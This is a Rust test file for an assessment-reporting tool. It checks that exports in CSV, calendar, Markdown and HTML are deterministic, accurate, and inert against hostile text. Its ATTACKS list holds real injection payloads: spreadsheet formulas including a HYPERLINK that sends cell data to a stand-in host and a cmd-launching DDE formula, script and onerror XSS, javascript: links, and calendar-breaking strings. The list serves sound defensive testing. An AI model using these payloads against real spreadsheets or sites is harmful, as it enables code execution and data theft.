//! What is taken along: equal figures in every format, the same bytes twice, and every text inert.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test fails by panicking")]

use glapp_core::{
    Action, ActionStatus, Adoption, Answer, Assessment, Carried, Catalogue, Coded, Coverage, Evidence,
    GapAnalysis, Language, Level, Practices, Rating, example,
};
use glapp_format::{assessment, bundled};
use glapp_report::{
    Block, Document, ResultSources, agenda, calendar, csv, form, glance, html, markdown, report,
};
use std::path::Path;

struct World {
    catalogue: Catalogue,
    practices: Practices,
}

impl World {
    fn new() -> Self {
        let catalogue = bundled::catalogue(bundled::DEFAULT_CATALOGUE).unwrap().unwrap();
        let practices = bundled::practices(bundled::DEFAULT_PRACTICES, &catalogue).unwrap().unwrap();
        Self { catalogue, practices }
    }

    fn example(&self, unit: &str) -> Assessment {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("assessments/examples");
        let text = std::fs::read(folder.join(format!("exempel{unit}.glapp.json"))).unwrap();
        assessment::read(&text, &[&self.catalogue]).unwrap().value
    }

    fn with<T>(&self, assessment: &Assessment, tell: impl Fn(ResultSources<'_>) -> T) -> T {
        let practices = &self.practices.practices;
        let coverage = Coverage::on(assessment.header().date, &self.catalogue, practices);
        let analysis = GapAnalysis::of(assessment, &self.catalogue, &coverage);
        tell(ResultSources {
            catalogue: &self.catalogue,
            practices,
            coverage: &coverage,
            assessment,
            analysis: &analysis,
            previous: None,
            others: &[],
        })
    }

    /// Everything there is to take along, by name.
    fn everything(&self, assessment: &Assessment, language: Language) -> Vec<(&'static str, String)> {
        let setting = html::Setting { language, address: &|_| String::new(), live: false };
        self.with(assessment, |sources| {
            vec![
                ("csv", csv::result(sources, language)),
                ("actions", csv::actions(assessment, &self.catalogue, language)),
                ("calendar", calendar::of(assessment, &self.catalogue, language)),
                ("markdown", markdown::of(&report(sources, language))),
                ("print", html::of(&report(sources, language), &setting)),
                ("agenda", html::of(&agenda(sources, language), &setting)),
                ("agenda.md", markdown::of(&agenda(sources, language))),
                ("form", html::of(&form(sources, language), &setting)),
                ("open", html::blocks(&glance(sources, language), &setting)),
            ]
        })
    }
}

const UNITS: [&str; 3] = ["bolaget", "forvaltningen", "namnden"];

/// An assessment with that text wherever a person can write one.
fn hostile(catalogue: &Catalogue, text: &str) -> Assessment {
    let mut header = example::header();
    header.unit.name = text.into();
    header.unit.organisation = text.into();
    header.modified = text.into();
    header.id = text.into();
    header.assessors =
        vec![glapp_core::Assessor { name: text.into(), role: text.into(), carried: Carried::default() }];
    let date = header.date;
    header.adopted = Some(Adoption { date, by: text.into(), carried: Carried::default() });
    let mut unit = Assessment::new(catalogue, header).unwrap();
    let evidence = Evidence { text: text.into(), url: text.into(), carried: Carried::default() };
    let rating = |answer| Rating {
        answer,
        note: text.into(),
        evidence: vec![evidence.clone()],
        practices: vec![text.into()],
        ..Rating::default()
    };
    let mut put = |clause: &str, answer| {
        unit.put_rating(catalogue, clause.parse().unwrap(), rating(answer)).unwrap();
    };
    put("4.1.1", Answer::Level(Level::new(1)));
    put("4.1.2", Answer::NotApplicable(text.into()));
    put("4.1.3", Answer::Unanswered);
    let action = Action {
        id: text.into(),
        clause: "4.1.1".parse().ok(),
        text: text.into(),
        owner: text.into(),
        due: Some(date),
        status: ActionStatus::Open,
        carried: Carried::default(),
    };
    unit.put_actions(catalogue, vec![action]).unwrap();
    unit
}

const ATTACKS: [&str; 9] = [
    "=HYPERLINK(\"http://example.org/?\"&A1;\"Klicka\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)\t\r\n=1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![y](https://example.org/z) javascript:alert(1)",
    "\u{202e}baklänges \u{2066}isolerad",
    "rad 1\r\nEND:VEVENT\r\nEND:VCALENDAR\nBEGIN:VCALENDAR\n# rubrik\n| a | b |\n\n---\n",
    "\";\"',\n\0\u{7}\u{1b}[31m👩‍👩‍👧‍👦",
];

fn rows(text: &str, language: Language) -> Vec<Vec<String>> {
    let separator = if language == Language::Sv { b';' } else { b',' };
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader =
        ::csv::ReaderBuilder::new().delimiter(separator).has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn every_text_is_inert_in_every_format() {
    let world = World::new();
    let plain = hostile(&world.catalogue, "Vanlig text");
    for attack in ATTACKS {
        let unit = hostile(&world.catalogue, attack);
        for &language in Language::ALL {
            let calm = world.everything(&plain, language);
            for ((name, text), (_, calm)) in world.everything(&unit, language).iter().zip(&calm) {
                let count = |text: &str, what: &str| text.matches(what).count();
                let same = |what: &str| {
                    assert_eq!(count(text, what), count(calm, what), "{name}: {what} by {attack:?}\n{text}");
                };
                match *name {
                    "csv" | "actions" => {
                        let (found, expected) = (rows(text, language), rows(calm, language));
                        assert_eq!(found.len(), expected.len(), "{name} {attack:?}");
                        for cell in found.iter().flatten() {
                            assert!(!csv::is_formula(cell), "{name}: {cell:?}");
                        }
                    }
                    "calendar" => {
                        let unfolded = text.replace("\r\n ", "");
                        let lines: Vec<&str> = unfolded.split("\r\n").collect();
                        assert_eq!(lines.len(), calm.replace("\r\n ", "").split("\r\n").count(), "{text}");
                        assert!(!unfolded.replace("\r\n", "").contains(char::is_control), "{text:?}");
                        assert!(text.split("\r\n").all(|line| line.len() <= 75));
                    }
                    "markdown" | "agenda.md" => {
                        assert_eq!(text.lines().count(), calm.lines().count(), "{name} {attack:?}");
                        for (line, calm) in text.lines().zip(calm.lines()) {
                            let head = |line: &str| {
                                line.chars().take_while(|c| "#|-* ".contains(*c)).collect::<String>()
                            };
                            assert_eq!(head(line).trim_end(), head(calm).trim_end(), "{line}");
                        }
                        // Every one of theirs is escaped.
                        for markup in ["<", "[", "!["] {
                            let bare = text.replace(&format!("\\{}", &markup[..1]), "");
                            assert_eq!(count(&bare, markup), count(calm, markup), "{name}: {markup}");
                        }
                    }
                    _ => ["<", ">", "href", "<a ", "<img"].into_iter().for_each(|what| {
                        if what != "href" {
                            same(what);
                        }
                    }),
                }
            }
        }
    }
}

#[test]
fn the_same_assessment_gives_the_same_bytes() {
    let world = World::new();
    for unit in UNITS.map(|unit| world.example(unit)) {
        for &language in Language::ALL {
            assert_eq!(world.everything(&unit, language), world.everything(&unit.clone(), language));
        }
    }
}

#[test]
fn the_csv_has_every_clause_with_the_figures_of_the_analysis() {
    let world = World::new();
    for unit in UNITS.map(|unit| world.example(unit)) {
        for &language in Language::ALL {
            let (text, analysis) =
                world.with(&unit, |sources| (csv::result(sources, language), sources.analysis.clone()));
            let rows = rows(&text, language);
            assert_eq!(rows.len(), 53);
            let number = |text: &str| text.replace(',', ".").parse::<f64>().ok();
            for (row, clause) in rows[1..].iter().zip(&analysis.clauses) {
                assert_eq!(row.len(), 17);
                assert_eq!(row[0], clause.clause.to_string());
                assert_eq!(number(&row[3]), clause.level.map(|it| f64::from(it.number())));
                assert_eq!(number(&row[4]), Some(f64::from(clause.target.number())));
                assert_eq!(number(&row[5]), clause.gap.map(f64::from));
                let priority = analysis.priorities.iter().find(|it| it.clause == clause.clause);
                // Not rounded: what is read back is the very same number.
                assert_eq!(number(&row[11]), priority.map(|it| it.contribution));
                assert_eq!(number(&row[12]), priority.map(|it| it.priority));
            }
        }
    }
}

#[test]
fn the_csv_follows_the_language() {
    let world = World::new();
    let unit = world.example("forvaltningen");
    let of = |language| world.with(&unit, |sources| csv::result(sources, language));
    let (sv, en) = (of(Language::Sv), of(Language::En));
    assert!(
        sv.starts_with("\u{feff}avsnitt;rubrik;läge;nivå;")
            && en.starts_with("\u{feff}id,title,status,level,")
    );
    assert!(sv.contains(";\"0,") && en.contains(",0."));
    assert!(sv.ends_with("\r\n") && !sv.replace("\r\n", "").contains('\r'));
}

/// The minutes of each row of the agenda's table, the sum last.
fn minutes(document: &Document) -> Vec<u32> {
    let table = document.blocks.iter().find_map(|block| match block {
        Block::Table(table) => Some(table),
        _ => None,
    });
    table.unwrap().rows.iter().map(|row| row[2].text.parse().unwrap()).collect()
}

#[test]
fn the_agenda_is_an_hour_whatever_there_is_to_talk_about() {
    let world = World::new();
    let mut units = UNITS.map(|unit| world.example(unit)).to_vec();
    let empty = Assessment::new(&world.catalogue, example::header()).unwrap();
    let rated = |level: u8, clauses: &[&str], rest: u8| {
        let mut unit = empty.clone();
        for leaf in world.catalogue.leaves() {
            let id = leaf.id();
            let level = if clauses.contains(&id.to_string().as_str()) { level } else { rest };
            let rating = Rating { answer: Answer::Level(Level::new(level)), ..Rating::default() };
            unit.put_rating(&world.catalogue, id, rating).unwrap();
        }
        unit
    };
    units.extend([rated(1, &["4.1.1"], 5), rated(1, &["4.1.1", "9.1"], 5), rated(5, &[], 5), empty.clone()]);
    for unit in units {
        for &language in Language::ALL {
            let document = world.with(&unit, |sources| agenda(sources, language));
            let minutes = minutes(&document);
            let (sum, parts) = minutes.split_last().unwrap();
            assert_eq!((*sum, parts.iter().sum()), (60, 60), "{parts:?}");
            assert!(parts.iter().all(|part| *part > 0) && (4..=6).contains(&parts.len()), "{parts:?}");
        }
    }
    let told = |unit: &Assessment| {
        let document = world.with(unit, |sources| agenda(sources, Language::En));
        markdown::of(&document)
    };
    assert!(told(&rated(1, &["4.1.1"], 5)).contains("| 15–51 | 4.1.1 "));
    assert!(told(&empty).contains("### Answer: 4.1.1 "));
    assert!(told(&rated(5, &[], 5)).contains("### Show: 4.1.1 "), "levels without support");
}

#[test]
fn the_three_first_gaps_are_talked_about_with_question_step_and_practices() {
    let world = World::new();
    let unit = world.example("forvaltningen");
    let text = world.with(&unit, |sources| markdown::of(&agenda(sources, Language::En)));
    let first = world.with(&unit, |sources| {
        sources.analysis.priorities.iter().take(3).map(|it| it.clause).collect::<Vec<_>>()
    });
    assert_eq!(first.len(), 3);
    for clause in first {
        let level = unit.rating(clause).unwrap().answer.level().unwrap();
        let criteria = world.catalogue.clause(clause).unwrap().criteria().unwrap();
        let step = criteria.first_step[usize::from(level.number())].get(Language::En);
        for expected in [criteria.question.get(Language::En), step] {
            assert!(text.contains(&markdown::inline(expected)), "{clause}: {expected}");
        }
    }
}

#[test]
fn the_form_has_every_question_once_the_short_round_first() {
    let world = World::new();
    let unit = world.example("forvaltningen");
    for &language in Language::ALL {
        let document = world.with(&unit, |sources| form(sources, language));
        let cards: Vec<_> = document
            .blocks
            .iter()
            .filter_map(|block| match block {
                Block::Cards(cards) => Some(cards),
                _ => None,
            })
            .flatten()
            .collect();
        assert_eq!(cards.len(), 52);
        let short = |id: &str| {
            let clause = world.catalogue.clause(id.parse().unwrap()).unwrap();
            clause.criteria().unwrap().short_round.is_some()
        };
        let marked = cards.iter().take_while(|card| short(&card.verb)).count();
        assert_eq!(marked, 14);
        assert!(cards[14..].iter().all(|card| !short(&card.verb)));
        for card in cards {
            let Some(Block::List { items, .. }) = card.blocks.get(1) else { panic!("no levels") };
            assert_eq!(items.len(), 6);
            assert!(items.iter().all(|item| item.lead.starts_with('☐') && !item.text.is_empty()));
            let blanks = card.blocks.iter().filter(|block| matches!(block, Block::Blank { .. })).count();
            assert_eq!(blanks, 3);
        }
    }
}
